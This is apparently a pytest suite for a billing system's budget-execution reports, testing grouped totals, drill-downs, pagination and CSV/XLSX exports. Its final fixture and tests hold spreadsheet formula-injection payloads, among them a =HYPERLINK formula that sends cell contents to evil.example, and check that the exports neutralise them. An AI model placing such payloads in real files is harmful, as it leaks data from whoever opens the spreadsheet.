"""Budget-execution reports: the figures by line, supplier, sector, dataset and month from the
records; drill-downs that sum to their figure; CSV and XLSX exports that hold the same numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from billing.budgets import reports
from billing.models import Budget, BudgetLine, BudgetRecord
from market.accounts.authz import Principal
from market.catalog import services as catalog
from tests.factories import make_org

DATASET = {"sector": "healthcare", "modality": "text", "ai_stage": "pretraining",
           "licence": "research_only", "personal_information": "none",
           "rights": {"holding": "X", "usage": "X", "operation": "X"}}


def build_budget(session, org=None, *, name: str = "City Health Commission") -> dict:
    """A buyer's FY2026 budget with three lines and records from two suppliers and datasets:
    paid, refunded, cancelled, still committed, and one without supplier, sector or dataset.
    The lines' columns are set as the budget service would leave them."""
    org = org or make_org(session, "buyer", name=name)
    suppliers, datasets = [], []
    for n, (en, zh, sector) in enumerate((("CT scans", "CT影像", "healthcare"),
                                          ("Grid load", "电网负荷", "smart_energy"))):
        supplier = make_org(session, "supplier", name=f"Supplier {'AB'[n]}")
        owner = Principal(organization_id=supplier.id, member_role="owner",
                          org_roles=frozenset({"supplier"}))
        datasets.append(catalog.create_dataset(session, owner, DATASET | {
            "title_en": en, "title_zh": zh, "sector": sector}))
        suppliers.append(supplier)
    budget = Budget(organization_id=org.id, fiscal_year=2026, currency="CNY",
                    name="FY2026 data budget", alert_email="finance@city.example")
    session.add(budget)
    session.flush()
    lines = {}
    for code, line_name, category, project, approved in (
            ("L01", "Medical imaging data", "data_purchase", "AI diagnosis", 100_000_000),
            ("L02", "Model API usage", "model_services", None, 3_000_000),
            ("L03", "Compute", "compute", None, 5_000_00)):
        lines[code] = BudgetLine(budget_id=budget.id, organization_id=org.id, code=code,
                                 name=line_name, category=category, project=project,
                                 original_minor=approved, approved_minor=approved)
        session.add(lines[code])
    session.flush()
    a, b = suppliers
    d1, d2 = datasets
    lines["L02"].default_for_api = True
    moves = [  # line, kind, amount, supplier, dataset, month, source
        ("L01", "commitment", 3_000_000, a, d1, "2026-03", "order"),
        ("L01", "release", 3_000_000, a, d1, "2026-04", "order"),  # paid
        ("L01", "expenditure", 3_000_000, a, d1, "2026-04", "order"),
        ("L01", "refund", 500_000, a, d1, "2026-05", "refund"),
        ("L01", "commitment", 2_000_000, b, d2, "2026-04", "order"),
        ("L01", "release", 2_000_000, b, d2, "2026-04", "cancellation"),
        ("L01", "commitment", 1_234_567, b, d2, "2026-06", "order"),
        # A day of postpaid API usage, posted: its calls were committed without records.
        ("L02", "release", 100_001, a, d1, "2026-06", "usage"),
        ("L02", "expenditure", 100_001, a, d1, "2026-06", "usage"),
        ("L02", "expenditure", 333, None, None, "2026-07", "usage"),  # the usage order's tax
    ]
    for n, (code, kind, amount, supplier, dataset, month, source) in enumerate(moves):
        session.add(BudgetRecord(
            line_id=lines[code].id, organization_id=org.id, kind=kind, amount_minor=amount,
            currency="CNY", supplier_id=supplier.id if supplier else None,
            dataset_id=dataset.id if dataset else None,
            sector=dataset.sector if dataset else None, month=month, source=source,
            reference=f"test-{budget.id}-{n}",
            occurred_at=dt.datetime(2026, int(month[5:]), 10, 8, n, tzinfo=dt.timezone.utc)))
    lines["L01"].committed_minor, lines["L01"].spent_minor = 1_234_567, 2_500_000
    # 5,000 of calls made today, committed by the usage guard, not yet posted.
    lines["L02"].committed_minor, lines["L02"].spent_minor = 5_000, 100_334
    session.flush()
    return {"org": org, "budget": budget, "lines": lines, "suppliers": suppliers,
            "datasets": datasets}


@pytest.fixture()
def planned(session):
    return build_budget(session)


def test_execution_rate_is_exact_and_rounded_half_up():
    assert reports.execution_rate(1, 20_000) == Decimal("0.01")  # 0.005 %: half up, not even
    assert reports.execution_rate(2_500_000, 100_000_000) == Decimal("2.50")
    assert reports.execution_rate(100_001, 3_000_000) == Decimal("3.33")
    assert reports.execution_rate(2, 3) == Decimal("66.67")
    assert reports.execution_rate(5, 0) is None


def test_by_line_equals_the_line_columns(session, planned):
    report = reports.budget_report(session, planned["budget"], "line")
    rows = {row.code: row for row in report.rows}
    assert [row.code for row in report.rows] == ["L01", "L02", "L03"]
    for code, line in planned["lines"].items():
        row = rows[code]
        assert (row.approved_minor, row.committed_minor, row.spent_minor) == (
            line.approved_minor, line.committed_minor, line.spent_minor)
        assert row.reconciled
        assert row.remaining_minor == line.remaining_minor
    assert rows["L01"].remaining_minor == 100_000_000 - 1_234_567 - 2_500_000
    assert rows["L01"].execution_rate == Decimal("2.50")
    assert rows["L03"].records == 0 and rows["L03"].execution_rate == Decimal("0.00")
    assert rows["L01"].unrecorded_committed_minor == 0
    assert rows["L02"].unrecorded_committed_minor == 5_000 and rows["L02"].records == 3
    totals = report.totals
    assert (totals.approved_minor, totals.committed_minor, totals.spent_minor) == (
        103_500_000, 1_239_567, 2_600_334)
    data = report.to_dict()
    assert data["rows"][0]["approved"] == "1000000.00" and data["rows"][0]["spent"] == "25000.00"
    assert data["rows"][1]["unrecorded_committed"] == "50.00"
    assert data["totals"]["execution_rate"] == "2.51"


def test_a_line_whose_records_drift_from_its_columns_is_flagged(session, planned):
    planned["lines"]["L02"].spent_minor = 1
    planned["lines"]["L01"].committed_minor += 1  # not an API line: no unrecorded commitment
    session.flush()
    rows = {r.code: r for r in reports.budget_report(session, planned["budget"]).rows}
    assert rows["L02"].reconciled is False and rows["L01"].reconciled is False
    assert rows["L03"].reconciled


@pytest.mark.parametrize("by", ["supplier", "sector", "dataset", "month"])
def test_every_grouping_has_the_same_totals_and_drills_down_to_its_figures(session, planned,
                                                                           by):
    budget = planned["budget"]
    lines = reports.budget_report(session, budget, "line")
    report = reports.budget_report(session, budget, by)
    # The same records, whatever the grouping; by line the committed figure also holds the
    # API calls not yet posted.
    assert (report.totals.committed_minor + report.totals.unrecorded_committed_minor,
            report.totals.spent_minor, report.totals.records) == (
        lines.totals.committed_minor, lines.totals.spent_minor, lines.totals.records)
    assert sum(row.records for row in report.rows) == 10
    for row in report.rows:
        page = reports.budget_records(session, budget, {by: row.key})
        assert (page.committed_minor, page.spent_minor, page.total) == (
            row.committed_minor, row.spent_minor, row.records)


def test_dimension_labels_and_order(session, planned):
    budget = planned["budget"]
    a, b = planned["suppliers"]
    suppliers = reports.budget_report(session, budget, "supplier").rows
    assert [(r.key, r.label, r.committed_minor, r.spent_minor) for r in suppliers] == [
        (str(a.id), "Supplier A", 0, 2_600_001), (reports.NONE, "(none)", 0, 333),
        (str(b.id), "Supplier B", 1_234_567, 0)]
    sectors = reports.budget_report(session, budget, "sector").rows
    assert [(r.key, r.label, r.label_zh) for r in sectors] == [
        ("healthcare", "Healthcare", "医疗健康"), (reports.NONE, "(none)", "（无）"),
        ("smart_energy", "Smart energy", "智慧能源")]
    datasets = reports.budget_report(session, budget, "dataset").rows
    assert datasets[0].label == "CT scans" and datasets[0].label_zh == "CT影像"
    months = reports.budget_report(session, budget, "month").rows
    assert [r.key for r in months] == [f"2026-{m:02d}" for m in range(1, 13)]
    by_month = {r.key: (r.committed_minor, r.spent_minor) for r in months}
    assert by_month["2026-03"] == (3_000_000, 0)
    assert by_month["2026-04"] == (-3_000_000, 3_000_000)  # paid what March committed
    assert by_month["2026-05"] == (0, -500_000)
    assert by_month["2026-06"] == (1_234_567, 100_001)  # the usage release counts nothing
    assert by_month["2026-01"] == (0, 0)


def test_drill_down_combines_filters_pages_and_rejects_malformed_ones(session, planned):
    budget = planned["budget"]
    line = planned["lines"]["L01"]
    b = planned["suppliers"][1]
    page = reports.budget_records(session, budget, {"line": str(line.id), "supplier": str(b.id)})
    assert page.total == 3 and page.committed_minor == 1_234_567
    assert [r.kind for r in page.records] == ["commitment", "release", "commitment"]
    first = reports.budget_records(session, budget, {}, per_page=4)
    second = reports.budget_records(session, budget, {}, page=3, per_page=4)
    assert first.pages == 3 and len(first.records) == 4 and len(second.records) == 2
    assert reports.budget_records(session, budget, {"sector": "none"}).total == 1
    with pytest.raises(ValueError):
        reports.budget_records(session, budget, {"supplier": "abc"})


def test_another_budgets_records_never_count(session, planned):
    other = build_budget(session, name="Other Buyer")
    report = reports.budget_report(session, planned["budget"], "supplier")
    assert report.totals.records == 10
    assert reports.budget_records(
        session, planned["budget"], {"line": str(other["lines"]["L01"].id)}).total == 0


def test_xlsx_opens_and_holds_the_numbers_of_the_json_report(session, planned):
    report = reports.budget_report(session, planned["budget"], "line")
    data = report.to_dict()
    sheet = load_workbook(io.BytesIO(reports.report_xlsx(report))).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[1][1] == "City Health Commission" and rows[2][1] == 2026
    start = next(i for i, r in enumerate(rows) if r[0] == "编码 / Code") + 1
    body = rows[start:]
    assert len(body) == 4 and body[-1][0] == "合计 / Total"
    for cells, json_row in zip(body, data["rows"] + [data["totals"]]):
        numbers = [Decimal(str(v)).quantize(Decimal("0.01")) for v in cells[4:9]]
        assert numbers == [Decimal(json_row[k]) for k in (
            "approved", "committed", "spent", "remaining", "execution_rate")]
    assert body[0][:4] == ["L01", "Medical imaging data", "数据采购 Data purchase",
                           "AI diagnosis"]
    cell = sheet.cell(row=start + 1, column=5)
    assert cell.number_format == "#,##0.00" and not isinstance(cell.value, str)


def test_csv_has_the_header_rows_one_row_per_line_and_totals(session, planned):
    report = reports.budget_report(session, planned["budget"], "line")
    text = reports.report_csv(report).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["单位 / Organization", "City Health Commission"]
    assert rows[2] == ["预算年度 / Fiscal year", "2026"]
    assert rows[7][0] == "编码 / Code"
    assert rows[8] == ["L01", "Medical imaging data", "数据采购 Data purchase", "AI diagnosis",
                       "1000000.00", "12345.67", "25000.00", "962654.33", "2.50"]
    assert rows[-1][0] == "合计 / Total" and rows[-1][4:] == [
        "1035000.00", "12395.67", "26003.34", "996600.99", "2.51"]


@pytest.fixture()
def hostile(session):
    """A budget whose names were typed to break the export or attack whoever opens it."""
    planned = build_budget(session, name='=HYPERLINK("http://evil.example/?"&A1,"click")')
    planned["budget"].name = "ctl\u0001name"
    lines = planned["lines"]
    lines["L01"].code, lines["L01"].name, lines["L01"].project = "+1", "@SUM(A1:A9)", "-2+3"
    lines["L02"].name = "\tTAB\x1b"
    session.flush()
    return planned


INERT = ["ctl\ufffdname", '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1",
         "'@SUM(A1:A9)", "'-2+3", "'\tTAB\ufffd"]


def test_an_xlsx_of_hostile_names_opens_with_them_as_neutral_text(session, hostile):
    report = reports.budget_report(session, hostile["budget"], "line")
    sheet = load_workbook(io.BytesIO(reports.report_xlsx(report))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    assert all(cells[text].data_type == "s" for text in INERT)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    numbers = [cell for row in sheet.iter_rows() if row[0].value == "'+1" for cell in row[4:9]]
    assert [Decimal(str(cell.value)).quantize(Decimal("0.01")) for cell in numbers] == [
        Decimal("1000000.00"), Decimal("12345.67"), Decimal("25000.00"), Decimal("962654.33"),
        Decimal("2.50")]
    assert all(cell.data_type == "n" for cell in numbers)


def test_a_csv_of_hostile_names_holds_them_as_neutral_text(session, hostile):
    report = reports.budget_report(session, hostile["budget"], "line")
    rows = list(csv.reader(io.StringIO(reports.report_csv(report).decode("utf-8-sig"),
                                       newline="")))
    assert rows[0][1] == INERT[0] and rows[1][1] == INERT[1]
    assert rows[8] == ["'+1", "'@SUM(A1:A9)", "数据采购 Data purchase", "'-2+3",
                       "1000000.00", "12345.67", "25000.00", "962654.33", "2.50"]
    assert any(row[1] == INERT[5] for row in rows if len(row) > 1)


def test_a_negative_remaining_amount_stays_a_number(session, planned):
    planned["lines"]["L03"].spent_minor = 600_000  # beyond its 5,000.00: -1,000.00 remains
    session.flush()
    report = reports.budget_report(session, planned["budget"], "line")
    rows = list(csv.reader(io.StringIO(reports.report_csv(report).decode("utf-8-sig"))))
    assert next(row for row in rows if row and row[0] == "L03")[7] == "-1000.00"
    sheet = load_workbook(io.BytesIO(reports.report_xlsx(report))).active
    remaining = next(row for row in sheet.iter_rows() if row[0].value == "L03")[7]
    assert remaining.value == -1000 and remaining.data_type == "n"
